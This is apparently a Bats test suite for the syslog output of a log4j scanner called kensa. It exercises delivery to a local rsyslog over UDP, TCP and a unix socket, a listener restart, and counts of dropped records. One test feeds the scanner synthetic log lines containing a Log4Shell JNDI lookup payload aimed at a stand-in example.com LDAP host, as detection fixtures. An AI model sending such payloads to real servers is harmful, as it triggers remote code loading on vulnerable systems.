#!/usr/bin/env bats
# syslog.bats - --syslog against a real rsyslog (Debian's), started by the
# test as root with its own configuration: imudp and imtcp on free ports of
# 127.0.0.1 and imuxsock on a socket in the test's folder (never /dev/log),
# its own work folder and pid file, every message written raw to a file.
# Every record of a scan must arrive, as RFC 5424 with the JSON intact;
# TCP must survive the listener's restart mid-run and count honestly what
# it could not deliver.  Also -o's %h, %t and %%.

load helpers

setup_file() {
    command -v rsyslogd >/dev/null || return 0
    make_fixtures
    export W="$BATS_FILE_TMPDIR/sl"
    mkdir -p "$W/work"
    read -r UDP TCP < <(python3 -c '
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
t = socket.socket(); t.bind(("127.0.0.1", 0))
print(u.getsockname()[1], t.getsockname()[1])')
    export UDP TCP
    cat >"$W/rsyslog.conf" <<EOF
global(workDirectory="$W/work" maxMessageSize="128k")
module(load="imudp")
module(load="imtcp")
module(load="imuxsock" SysSock.Use="off")
input(type="imudp" address="127.0.0.1" port="$UDP" rcvbufSize="8m")
input(type="imtcp" address="127.0.0.1" port="$TCP")
input(type="imuxsock" Socket="$W/log.sock" UseSpecialParser="off"
      ParseHostname="on")
template(name="raw" type="string" string="%rawmsg%\n")
*.* action(type="omfile" file="$W/out.log" template="raw")
EOF
    rs_start
    # the reference: the same scan written with --json -o FILE
    "$KENSA" log4j --threads 1 --json -o "$W/ref.json" "$FX" 2>/dev/null || true
}

teardown_file() {
    [ -n "${W:-}" ] && rs_stop
    true
}

setup() {
    command -v rsyslogd >/dev/null || skip "rsyslogd not installed (scripts/install-deps.sh)"
}

rs_start() {
    rm -f "$W/rsyslog.pid"
    rsyslogd -f "$W/rsyslog.conf" -i "$W/rsyslog.pid"
    for _ in $(seq 100); do
        [ -s "$W/rsyslog.pid" ] && [ -S "$W/log.sock" ] &&
            ss -ltn | grep -q "127.0.0.1:$TCP " && return 0
        sleep 0.1
    done
    echo "rsyslogd did not start" >&2
    return 1
}

rs_stop() {
    [ -s "$W/rsyslog.pid" ] || return 0
    local pid
    pid=$(cat "$W/rsyslog.pid")
    kill "$pid" 2>/dev/null
    for _ in $(seq 100); do
        kill -0 "$pid" 2>/dev/null || break
        sleep 0.1
    done
    rm -f "$W/rsyslog.pid"
}

# wait_lines N: until rsyslog has written N messages (10 s at most)
wait_lines() {
    for _ in $(seq 100); do
        [ "$(wc -l <"$W/out.log" 2>/dev/null || echo 0)" -ge "$1" ] && return 0
        sleep 0.1
    done
    return 0
}

# rfc5424_json: every line of out.log is an RFC 5424 message from kensa
# whose MSG is one whole JSON record; prints the records.
rfc5424_json() {
    local re='^<[0-9]{1,3}>1 [0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}\.[0-9]{6}Z [!-~]{1,255} kensa [0-9]+ (finding|warning|run|-) - \{'
    local bad
    bad=$(grep -cvE "$re" "$W/out.log")
    [ "$bad" -eq 0 ] || { grep -vE "$re" "$W/out.log" | head -3 >&2; return 1; }
    cut -d' ' -f8- "$W/out.log" | jq -c .
}

# same_records: out.log holds the reference scan's records, one each
same_records() {
    local want got
    want=$(jq -r '"\(.event.kind) \(.kensa.path // .file.path)"' "$W/ref.json" | sort)
    got=$(rfc5424_json | jq -r '"\(.event.kind) \(.kensa.path // .file.path)"' | sort)
    [ -n "$want" ]
    [ "$want" = "$got" ]
}

scan_to() {
    : >"$W/out.log"
    run "$KENSA" log4j --threads 1 --color never --syslog "$@" "$FX"
}

@test "syslog udp: every record of the scan arrives, RFC 5424, JSON intact" {
    scan_to "udp://127.0.0.1:$UDP"
    [ "$status" -eq 1 ]
    n=$(wc -l <"$W/ref.json")
    [[ "$output" == *"Syslog: $n sent, 0 dropped"* ]]
    [[ "$output" == *"SCAN SUMMARY"* ]]         # the summary stays on stderr
    wait_lines "$n"
    same_records
    # local0 by default; critical -> crit(2), MSGID finding, PROCID a pid
    grep -qE '^<130>1 .* kensa [0-9]+ finding - \{' "$W/out.log"
    grep -qE '^<132>1 .* kensa [0-9]+ warning - \{' "$W/out.log"
    # HOSTNAME is the host's name
    grep -qF " $(hostname) kensa " "$W/out.log"
}

@test "syslog tcp: octet counting, every record arrives" {
    scan_to "tcp://127.0.0.1:$TCP"
    [ "$status" -eq 1 ]
    n=$(wc -l <"$W/ref.json")
    [[ "$output" == *"Syslog: $n sent, 0 dropped"* ]]
    wait_lines "$n"
    same_records
}

@test "syslog unix:PATH (the local transport, on the test's socket)" {
    scan_to "unix:$W/log.sock"
    [ "$status" -eq 1 ]
    n=$(wc -l <"$W/ref.json")
    wait_lines "$n"
    same_records
}

@test "syslog --syslog-facility user: PRI = 8 + severity; bad names refused" {
    scan_to "udp://127.0.0.1:$UDP" --syslog-facility user
    [ "$status" -eq 1 ]
    wait_lines "$(wc -l <"$W/ref.json")"
    grep -qE '^<10>1 .* finding ' "$W/out.log"
    ! grep -qE '^<1[3-9][0-9]>' "$W/out.log"
    run "$KENSA" log4j --syslog "udp://127.0.0.1:$UDP" --syslog-facility local9 "$FX"
    [ "$status" -eq 2 ]
    [[ "$output" == *"--syslog-facility"* ]]
}

@test "syslog -o FILE too: the same records in the file" {
    scan_to "tcp://127.0.0.1:$TCP" -o "$W/tee.json"
    [ "$status" -eq 1 ]
    n=$(wc -l <"$W/ref.json")
    [ "$(wc -l <"$W/tee.json")" -eq "$n" ]
    jq -e . "$W/tee.json" >/dev/null
    wait_lines "$n"
    same_records
}

@test "syslog tcp survives the listener's restart mid-run" {
    : >"$W/out.log"
    rm -f "$W/fifo"
    mkfifo "$W/fifo"
    line() {
        printf '10.0.0.1 - - [11/Dec/2021:10:00:01 +0000] "GET /?q=${jndi:ldap://h%d.example.com/a} HTTP/1.1" 200 5 "-" "curl"\n' "$@"
    }
    "$KENSA" logs --threads 1 --color never --syslog "tcp://127.0.0.1:$TCP" - \
        <"$W/fifo" >/dev/null 2>"$W/err" &
    kpid=$!
    exec 7>"$W/fifo"
    # past the first 64 KiB, a pipe is scanned as it comes
    line $(seq 1 600) >&7
    wait_lines 600
    [ "$(wc -l <"$W/out.log")" -eq 600 ]
    rs_stop
    rs_start
    line $(seq 601 1200) >&7
    exec 7>&-
    st=0
    wait "$kpid" || st=$?
    [ "$st" -eq 1 ]
    # 1200 findings and the run's closing record
    grep -q 'Syslog: 1201 sent, 0 dropped, 0 cut, 1 reconnects' "$W/err"
    wait_lines 1200
    [ "$(rfc5424_json | jq -r 'select(.event.kind=="alert") | .url.original // .message' | wc -l)" -eq 1200 ]
}

@test "syslog tcp with no listener: records counted as dropped, exit 2" {
    rs_stop
    scan_to "tcp://127.0.0.1:$TCP"
    rs_start
    [ "$status" -eq 2 ]
    n=$(wc -l <"$W/ref.json")
    [[ "$output" == *"Connection refused; records are queued"* ]]
    [[ "$output" == *"Syslog: 0 sent, $n dropped"* ]]
    [[ "$output" == *"syslog: $n records not delivered to tcp://127.0.0.1:$TCP"* ]]
}

@test "syslog: bad destinations are refused before the scan" {
    run "$KENSA" log4j --syslog "smtp://127.0.0.1:25" "$FX"
    [ "$status" -eq 2 ]
    [[ "$output" == *"unknown transport"* ]]
    run "$KENSA" log4j --syslog "unix:$W/nothing.sock" "$FX"
    [ "$status" -eq 2 ]
    [[ "$output" == *"nothing.sock"* ]]
    run "$KENSA" log4j --syslog "udp://no-such-host.invalid:514" "$FX"
    [ "$status" -eq 2 ]
    if [ ! -e /dev/log ]; then
        run "$KENSA" log4j --syslog local "$FX"
        [ "$status" -eq 2 ]
        [[ "$output" == *"/dev/log"* ]]
    fi
}

@test "-o with %h, %t and %%: host name and start time in the name" {
    cd "$W"
    run "$KENSA" log4j --threads 1 --json -o "$W/r-%h-%t-%%.json" "$FX/clean"
    [ "$status" -eq 0 ]
    host=$(hostname | tr -c 'A-Za-z0-9._\n-' '_')
    ls "$W" | grep -qE "^r-${host}-[0-9]{8}T[0-9]{6}Z-%\.json$"
    run "$KENSA" log4j --json -o "$W/r-%q.json" "$FX/clean"
    [ "$status" -eq 2 ]
    [[ "$output" == *"bad value '$W/r-%q.json' for --output"* ]]
    [ ! -e "$W/r-%q.json" ]
}
